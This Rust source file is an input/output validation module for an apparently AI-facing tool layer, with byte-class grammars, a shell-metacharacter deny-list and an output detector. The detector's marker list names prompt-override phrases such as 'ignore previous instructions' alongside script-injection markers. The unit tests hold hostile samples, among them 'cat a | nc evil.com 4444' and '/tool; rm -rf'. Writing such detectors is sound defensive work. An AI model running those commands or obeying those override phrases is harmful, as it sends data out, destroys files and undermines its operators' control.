//! Grammar Shield — the input/output validation layer.
//!
//! Byte-level charset validation gates every byte entering or leaving the
//! trust boundary. Nothing here mutates anything; every function is a pure
//! predicate plus, for `enforce`, a logging side effect.

mod path;

pub use path::canonicalize;

use log::warn;

/// The fixed, enumerated set of named grammars (mirrors `SeaGrammarType`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Grammar {
    SafeText,
    Numeric,
    Alpha,
    AlphaNum,
    Filename,
    Url,
    Json,
    Command,
    Hex,
    Base64,
}

impl Grammar {
    pub fn name(self) -> &'static str {
        match self {
            Grammar::SafeText => "safe-text",
            Grammar::Numeric => "numeric",
            Grammar::Alpha => "alphabetic",
            Grammar::AlphaNum => "alphanumeric",
            Grammar::Filename => "filename",
            Grammar::Url => "url",
            Grammar::Json => "json",
            Grammar::Command => "command",
            Grammar::Hex => "hex",
            Grammar::Base64 => "base64",
        }
    }

    fn byte_allowed(self, b: u8) -> bool {
        match self {
            Grammar::SafeText => (0x20..=0x7e).contains(&b) || b >= 0x80,
            Grammar::Numeric => b.is_ascii_digit() || matches!(b, b'.' | b'-' | b'+' | b'e' | b'E'),
            Grammar::Alpha => b.is_ascii_alphabetic(),
            Grammar::AlphaNum => b.is_ascii_alphanumeric(),
            Grammar::Filename => {
                b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b'/')
            }
            Grammar::Url => {
                b.is_ascii_alphanumeric()
                    || matches!(
                        b,
                        b'-' | b'_'
                            | b'.'
                            | b'~'
                            | b':'
                            | b'/'
                            | b'?'
                            | b'#'
                            | b'['
                            | b']'
                            | b'@'
                            | b'!'
                            | b'$'
                            | b'&'
                            | b'\''
                            | b'('
                            | b')'
                            | b'*'
                            | b'+'
                            | b','
                            | b';'
                            | b'='
                            | b'%'
                    )
            }
            Grammar::Json => (0x20..=0x7e).contains(&b) || matches!(b, b'\n' | b'\r' | b'\t') || b >= 0x80,
            Grammar::Command => {
                b.is_ascii_alphanumeric()
                    || matches!(b, b'/' | b' ' | b'-' | b'_' | b'.' | b':')
            }
            Grammar::Hex => b.is_ascii_hexdigit(),
            Grammar::Base64 => b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='),
        }
    }
}

/// The outcome of a grammar validation: `(valid, first-failing-offset,
/// failing-byte, reason)`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShieldResult {
    pub valid: bool,
    pub fail_pos: Option<usize>,
    pub fail_byte: Option<u8>,
    pub reason: Option<String>,
}

impl ShieldResult {
    fn ok() -> Self {
        ShieldResult {
            valid: true,
            fail_pos: None,
            fail_byte: None,
            reason: None,
        }
    }
}

/// Validates `input` against `grammar`; the first out-of-class byte
/// determines failure with position and reason.
pub fn validate(input: &[u8], grammar: Grammar) -> ShieldResult {
    for (pos, &b) in input.iter().enumerate() {
        if !grammar.byte_allowed(b) {
            return ShieldResult {
                valid: false,
                fail_pos: Some(pos),
                fail_byte: Some(b),
                reason: Some(format!(
                    "byte 0x{b:02x} at offset {pos} is not valid {}",
                    grammar.name()
                )),
            };
        }
    }
    ShieldResult::ok()
}

/// Quick check — valid/invalid only.
pub fn check(input: &[u8], grammar: Grammar) -> bool {
    validate(input, grammar).valid
}

/// Checks and logs a rejection, producing the "invalid input" error kind on
/// failure.
pub fn enforce(
    input: &[u8],
    grammar: Grammar,
    context: &str,
) -> Result<(), crate::error::CoreError> {
    let result = validate(input, grammar);
    if result.valid {
        Ok(())
    } else {
        warn!(
            "shield rejected input in {context}: {}",
            result.reason.as_deref().unwrap_or("unknown")
        );
        Err(crate::error::CoreError::InvalidInput {
            reason: result.reason.unwrap_or_else(|| "rejected".to_string()),
        })
    }
}

/// Strict, enumerated deny-set for shell-control sequences. Applied before
/// any tool that touches the OS. Preserves an enumerated deny-set rather
/// than diverging to a stricter allow-set.
pub fn detect_input_injection(input: &[u8]) -> bool {
    const DENY_SEQUENCES: &[&[u8]] = &[
        b"`", b"$(", b"|", b">", b"<", b";", b"&&", b"||", b"\n", b"\0",
    ];
    DENY_SEQUENCES.iter().any(|seq| contains(input, seq))
}

/// Relaxed predicate applied to model or remote-agent output. Shell
/// metacharacters are tolerated (legitimate model output contains them);
/// this instead catches patterns that would steer a downstream consumer.
pub fn detect_output_injection(output: &[u8]) -> bool {
    const MARKERS: &[&[u8]] = &[
        b"<script",
        b"<iframe",
        b"javascript:",
        b"ignore previous instructions",
        b"ignore all previous instructions",
        b"disregard the system prompt",
        b"data:text/html",
        b"onerror=",
    ];
    let lowered = to_ascii_lower(output);
    MARKERS.iter().any(|m| contains(&lowered, &to_ascii_lower(m)))
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    if needle.is_empty() || needle.len() > haystack.len() {
        return needle.is_empty();
    }
    haystack.windows(needle.len()).any(|w| w == needle)
}

fn to_ascii_lower(b: &[u8]) -> Vec<u8> {
    b.iter().map(|c| c.to_ascii_lowercase()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn safe_text_accepts_printable_ascii() {
        assert!(check(b"hello world", Grammar::SafeText));
    }

    #[test]
    fn command_rejects_shell_metachar() {
        let r = validate(b"/tool; rm -rf", Grammar::Command);
        assert!(!r.valid);
        assert_eq!(r.fail_byte, Some(b';'));
    }

    #[test]
    fn every_byte_of_valid_input_satisfies_predicate() {
        let input = b"abc123_-.";
        let grammar = Grammar::Filename;
        if check(input, grammar) {
            for &b in input {
                assert!(grammar.byte_allowed(b));
            }
        }
    }

    #[test]
    fn input_injection_flags_backticks_and_pipes() {
        assert!(detect_input_injection(b"echo `whoami`"));
        assert!(detect_input_injection(b"cat a | nc evil.com 4444"));
        assert!(!detect_input_injection(b"a perfectly normal sentence"));
    }

    #[test]
    fn output_injection_tolerates_shell_metachars() {
        assert!(!detect_output_injection(b"you can pipe with | or redirect with >"));
    }

    #[test]
    fn output_injection_flags_script_tags() {
        assert!(detect_output_injection(b"hello <script>alert(1)</script>"));
    }

    #[test]
    fn enforce_logs_and_returns_invalid_input() {
        let err = enforce(b"bad;input", Grammar::Command, "test").unwrap_err();
        assert!(matches!(err, crate::error::CoreError::InvalidInput { .. }));
    }
}
